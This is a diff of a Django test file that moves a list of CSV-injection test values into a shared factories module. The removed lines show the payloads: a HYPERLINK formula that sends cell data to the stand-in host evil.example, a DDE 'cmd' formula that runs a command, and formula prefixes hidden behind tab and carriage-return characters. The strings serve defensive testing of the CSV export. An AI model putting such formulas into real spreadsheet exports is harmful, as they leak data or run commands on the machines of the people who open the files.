@@ -21,6 +21,7 @@ from django.test import Client
 from django.urls import reverse
 
 from tasks.csv_export import FORMULA_PREFIXES
+from tests.factories import HOSTILE_CSV_CELLS as HOSTILE
 from tests.factories import (
     CampaignFactory,
     CampaignWorkerFactory,
@@ -33,17 +34,6 @@ from tests.factories import (
 )
 from tests.leaderboards.boardkit import MAIN
 from tests.security.urlwalk import all_routes
-
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "=cmd|' /C calc'!A0",
-    "-0.5",
-]
 
 
 @dataclass
